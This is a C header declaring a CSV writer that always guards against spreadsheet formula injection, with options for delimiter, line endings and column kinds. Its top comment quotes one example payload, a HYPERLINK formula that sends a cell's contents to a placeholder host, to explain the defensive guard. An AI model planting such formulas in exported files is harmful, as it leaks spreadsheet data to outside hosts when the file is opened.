/*
 * csv_writer.h - writes rows of strings as RFC 4180 CSV.
 *
 * A field is quoted when it holds the delimiter, ',' or ';', a double
 * quote, CR or LF, or begins or ends with a space or tab (so spreadsheets
 * do not trim it); quotes inside are doubled. Apart from the formula guard
 * below, everything is written as is: a long digit string such as a NIK is
 * NOT altered (no ="..." tricks), so files round-trip exactly.
 *
 * Defaults (all-zero options or NULL): ',' delimiter, CRLF line ends (RFC
 * 4180, and what Excel writes; our reader accepts both), no BOM. For files
 * meant for Excel set bom = 1 (without it Excel reads UTF-8 as the local
 * code page) and, for Indonesian Excel, delimiter ';'.
 *
 * Formula guard (CSV injection, OWASP), always on: every CSV Pilar writes
 * may be opened in a spreadsheet, which runs a cell such as
 * =HYPERLINK("http://x/?"&A1) as a formula. A field is guarded when it
 * begins with = + - @ tab or CR, or with apostrophes followed by one of
 * those: it is written with one more apostrophe in front and quoted
 * ("'=HYPERLINK(...)"), so spreadsheets show it as text. Quoting ',' and
 * ';' whatever the delimiter keeps a spreadsheet that splits on the other
 * separator (Indonesian Excel uses ';') from starting a cell, and so a
 * formula, in the middle of a field. Columns
 * declared PL_CSV_NUMBER (coordinates, amounts, counts) keep a plain
 * decimal number as it is ("-0.5" stays a number); anything else in them
 * is guarded like text. pl_csv_unguard undoes the guard exactly, so an
 * importer reads back the value that was written (nothing else begins with
 * apostrophes followed by = + - @ tab or CR).
 *
 * Output is buffered (64 KiB); errors surface from pl_csv_writer_row or
 * pl_csv_writer_close as PL_EIO (or PL_ENOMEM for a pl_buf sink that hit its
 * cap), with the pl_error field "file".
 */
#ifndef PL_IO_CSV_WRITER_H
#define PL_IO_CSV_WRITER_H

#include <stdbool.h>
#include <stddef.h>
#include <stdio.h>

#include "util/buf.h"
#include "util/error.h"

typedef struct pl_csv_writer pl_csv_writer;

typedef enum pl_csv_line_end {
    PL_CSV_CRLF = 0, /* default */
    PL_CSV_LF,
    PL_CSV_LINE_END__MAX
} pl_csv_line_end;

/* What a column holds, for the formula guard. */
typedef enum pl_csv_kind {
    PL_CSV_TEXT = 0, /* default: guarded */
    PL_CSV_NUMBER,   /* a plain decimal number is written as is; anything else is guarded */
    PL_CSV_KIND__MAX
} pl_csv_kind;

typedef struct pl_csv_writer_options {
    char delimiter;           /* 0 = ',' */
    pl_csv_line_end line_end; /* PL_CSV_CRLF (default) or PL_CSV_LF */
    int bom;                  /* 1 = start with a UTF-8 byte order mark */
    const pl_csv_kind *kinds; /* kinds[i] of column i (copied); NULL = every column text */
    size_t n_kinds;           /* columns at or past n_kinds are text */
} pl_csv_writer_options;

/*
 * Opens a writer on fp, which stays owned by the caller (not closed by
 * pl_csv_writer_close, only flushed). opt may be NULL. On success *out is
 * owned by the caller. Errors: PL_EINVAL (bad delimiter), PL_ENOMEM.
 */
int pl_csv_writer_open(pl_csv_writer **out, FILE *fp, const pl_csv_writer_options *opt,
                       pl_error *err);

/*
 * Creates (or truncates) the file at path with mode 0600 whatever the
 * umask (util/fs.h: it may hold personal data) and opens a writer that owns
 * it. Errors: PL_EIO, PL_EINVAL, PL_ENOMEM.
 */
int pl_csv_writer_open_path(pl_csv_writer **out, const char *path, const pl_csv_writer_options *opt,
                            pl_error *err);

/*
 * Opens a writer that appends to b (borrowed; its cap bounds the output),
 * e.g. for an HTTP response body.
 */
int pl_csv_writer_open_buf(pl_csv_writer **out, pl_buf *b, const pl_csv_writer_options *opt,
                           pl_error *err);

/*
 * Writes one row of n fields (NULL fields are written as empty). Returns 0,
 * PL_EIO on a write failure, or PL_ENOMEM when a pl_buf sink is full.
 */
int pl_csv_writer_row(pl_csv_writer *w, const char *const *fields, size_t n, pl_error *err);

/*
 * Flushes, closes the file if the writer owns it, and frees w (NULL is
 * fine). Returns 0 or PL_EIO if anything could not be written; w is freed
 * either way.
 */
int pl_csv_writer_close(pl_csv_writer *w, pl_error *err);

/*
 * Undoes the formula guard in place: when s begins with apostrophes
 * followed by = + - @ tab or CR, the first apostrophe is removed. Returns
 * true when it removed one. For importers reading a file Pilar may have
 * written (an export, a rejects file), so the round trip is exact.
 */
bool pl_csv_unguard(char *s);

#endif
